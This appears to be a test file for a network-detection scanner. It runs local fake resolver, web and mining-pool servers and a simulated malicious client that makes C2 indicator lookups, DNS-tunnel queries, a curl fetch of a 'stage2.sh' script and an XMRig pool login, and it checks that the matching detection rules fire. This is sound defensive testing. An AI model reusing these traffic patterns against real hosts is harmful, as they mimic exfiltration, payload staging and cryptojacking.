import { assertEquals } from "@std/assert";
import { jsonLines, runCli, temporaryFolder } from "../cli/run_cli.ts";
import { testWith } from "../collectors/support.ts";
import { exists, filesOf, firedOf, needs } from "./alerts.ts";

/** What a scan judges by what is said in the network. */
const TRAFFIC = filesOf([
  "command-and-control/dns_query_for_indicator",
  "command-and-control/interpreter_download_as_curl",
  "defense-evasion/obsolete_tls_service",
  "exfiltration/dns_tunnel",
  "impact/miner_pool_protocol",
]);

/** A resolver, a web server and a pool, which all answer whatever they are asked. Says at which ports. */
const SERVERS = `
import socket, threading, time
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.bind(("127.0.0.1", 0))
def resolve():
    while True:
        asked, who = resolver.recvfrom(2048)
        answer = asked[:2] + b"\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0" + asked[12:]
        resolver.sendto(answer + b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x09\\0\\4\\xc0\\0\\2\\1", who)
def serve(listener, answer):
    while True:
        peer, _ = listener.accept()
        threading.Thread(target=say, args=(peer, answer), daemon=True).start()
def say(peer, answer):
    try:
        peer.recv(4096)
        peer.sendall(answer)
        peer.recv(1)
    except OSError:
        pass
    peer.close()
web = socket.create_server(("127.0.0.1", 0))
pool = socket.create_server(("127.0.0.1", 0))
page = b"HTTP/1.1 200 OK\\r\\nContent-Type: text/x-sh\\r\\nContent-Length: 2\\r\\n\\r\\nok"
job = b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{},"status":"OK"}}\\n'
threading.Thread(target=resolve, daemon=True).start()
threading.Thread(target=serve, args=(web, page), daemon=True).start()
threading.Thread(target=serve, args=(pool, job), daemon=True).start()
print(*[one.getsockname()[1] for one in (resolver, web, pool)], flush=True)
time.sleep(600)
`;

/** Asks them again and again: as malware does, or as other programs do. */
const CLIENT = `
import random, socket, sys, time
resolver, web, pool = [("127.0.0.1", int(port)) for port in sys.argv[2:5]]
guilty = sys.argv[1] == "guilty"
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(1)
def ask(name):
    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
    udp.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0\\1\\0\\1", resolver)
    try:
        udp.recv(2048)
    except OSError:
        pass
def tell(server, text):
    with socket.create_connection(server) as peer:
        peer.sendall(text.encode())
        peer.recv(4096)
        time.sleep(0.3)
print("ready", flush=True)
while True:
    ask("c2.indicator.test" if guilty else "indicator.test")
    for _ in range(10):
        data = "%040x" % random.getrandbits(160)
        ask(data + ".t.tunnel.example" if guilty else "www%d.example" % random.randrange(99))
        time.sleep(0.01)
    agent = "curl/8.5.0" if guilty else "python-requests/2.31"
    tell(web, "GET /stage2.sh HTTP/1.1\\r\\nHost: dl.example\\r\\nUser-Agent: " + agent + "\\r\\n\\r\\n")
    if guilty:
        tell(pool, '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48x","pass":"x","agent":"XMRig/6.21.0"}}\\n')
`;

/** A process that says when it is ready. */
async function start(program: string, args: readonly string[], ready = "\n") {
  const child = new Deno.Command(program, {
    args: [...args],
    stdin: "piped",
    stdout: "piped",
    stderr: "null",
  }).spawn();
  const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
  let said = "";
  while (!said.includes(ready)) {
    const { value, done } = await reader.read();
    if (done) throw new Error(`${program} ended: ${said}`);
    said += value;
  }
  // What it says later is nobody's business, but has to go somewhere.
  (async () => {
    while (!(await reader.read()).done);
  })().catch(() => {});
  return {
    pid: child.pid,
    said: said.trim(),
    async [Symbol.asyncDispose]() {
      child.kill("SIGKILL");
      await child.status;
      await child.stdin.abort().catch(() => {});
    },
  };
}

/** A server of one version of TLS that is asked again and again. */
async function startTls(folder: string, version: string) {
  const port = String(freePort());
  const weak = ["-cipher", "ALL:@SECLEVEL=0"];
  // deno-fmt-ignore
  const server = await start("openssl", ["s_server", "-accept", `127.0.0.1:${port}`, "-key",
    `${folder}/key.pem`, "-cert", `${folder}/certificate.pem`, `-${version}`, ...weak], "ACCEPT");
  const connect = `openssl s_client -connect 127.0.0.1:${port} -${version} ${weak.join(" ")}`;
  const clients = await start("setpriv", [
    "--pdeathsig",
    "KILL",
    "sh",
    "-c",
    `echo; while :; do sleep 0.5 | ${connect} >/dev/null 2>&1; done`,
  ]);
  return {
    pid: server.pid,
    async [Symbol.asyncDispose]() {
      await clients[Symbol.asyncDispose]();
      await server[Symbol.asyncDispose]();
    },
  };
}

function freePort(): number {
  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  return (listener.addr as Deno.NetAddr).port;
}

testWith(
  {
    ...needs,
    tcpdump: exists("tcpdump"),
    openssl: exists("openssl"),
    python3: exists("python3"),
  },
  "what malware says in the network is told of with its process, and nothing of what others say",
  async () => {
    await using folder = await temporaryFolder();
    const { path } = folder;
    // deno-fmt-ignore
    new Deno.Command("openssl", {
      args: ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", `${path}/key.pem`, "-out",
        `${path}/certificate.pem`, "-days", "2", "-subj", "/CN=tls.example"],
      stdout: "null",
      stderr: "null",
    }).outputSync();
    await using servers = await start("python3", ["-c", SERVERS]);
    const ports = servers.said.split(" ");
    await using guilty = await start("python3", ["-c", CLIENT, "guilty", ...ports]);
    await using innocent = await start("python3", ["-c", CLIENT, "innocent", ...ports]);
    await using obsolete = await startTls(path, "tls1");
    await using modern = await startTls(path, "tls1_2");
    const pids = [servers, guilty, innocent, obsolete, modern].map(({ pid }) => pid);

    const firedAt = new Map<number, Set<string>>(pids.map((pid) => [pid, new Set()]));
    const of = ({ pid }: { readonly pid: number }) => [...firedAt.get(pid)!].sort();
    const expected = [
      "dns_query_for_indicator",
      "dns_tunnel",
      "interpreter_download_as_curl",
      "miner_pool_protocol",
    ];
    // On a busy machine a capture may miss the moment in which a socket's process can be found.
    for (let scan = 0; scan < 4; scan++) {
      const { code, stdout, stderr } = await runCli([
        "scan",
        ...TRAFFIC,
        "--format=json",
        `--state=${path}/state-${scan}.kv`,
      ]);
      assertEquals(code, 0, stderr);
      for (const { detection, row } of jsonLines(stdout).flatMap(firedOf)) {
        firedAt.get(Number(row.pid))?.add(detection);
      }
      const isAll = of(guilty).length >= expected.length &&
        [obsolete, servers].every((one) => of(one).length > 0);
      if (isAll) break;
    }
    assertEquals(of(guilty), expected);
    assertEquals(of(obsolete), ["obsolete_tls_service"]);
    // A pool on this host is told of as well.
    assertEquals(of(servers), ["miner_pool_protocol"]);
    for (const other of [innocent, modern]) assertEquals(of(other), []);
  },
);
